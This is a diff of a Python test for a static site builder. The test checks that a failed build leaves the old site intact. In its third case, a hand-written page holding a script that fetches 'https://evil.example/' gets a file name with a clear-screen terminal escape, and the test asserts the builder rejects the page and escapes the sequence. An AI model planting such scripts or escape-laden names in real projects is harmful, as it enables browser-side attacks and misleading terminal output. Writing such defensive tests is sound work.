@@ -191,16 +191,17 @@ def test_mislukte_bouw_laat_de_vorige_site_byte_voor_byte_staan(tmp_path: Path, 
     assert GEHEIM not in resultaat.stdout + resultaat.stderr
     assert _afdruk(site) == voor
 
-    # 3. An active file among the hand-written pages.
+    # 3. An active file among the hand-written pages, with a name that tries to clear the terminal.
     (kopie / "docs" / "omgeving.txt").unlink()
-    (kopie / "docs" / "welkom.html").write_text("<script>fetch('https://evil.example/')</script>", encoding="utf-8")
+    (kopie / "docs" / "welkom\x1b[2J.html").write_text("<script>fetch('https://evil.example/')</script>", encoding="utf-8")
     resultaat = _bouw_in(kopie, site)
     assert resultaat.returncode != 0
-    assert "docs/welkom.html: Bestanden met de extensie '.html' kunnen in de browser draaien" in resultaat.stderr
+    assert "docs/welkom\\x1b[2J.html: Bestanden met de extensie '.html' kunnen in de browser draaien" in resultaat.stderr
+    assert "\x1b[2J" not in resultaat.stderr
     assert _afdruk(site) == voor
 
     # 4. A content error.
-    (kopie / "docs" / "welkom.html").unlink()
+    (kopie / "docs" / "welkom\x1b[2J.html").unlink()
     (kopie / "menukaart" / "diensten" / "index.yml").write_text(
         (MINI / "diensten" / "verkenning.yml").read_text(encoding="utf-8"), encoding="utf-8")
     resultaat = _bouw_in(kopie, site)
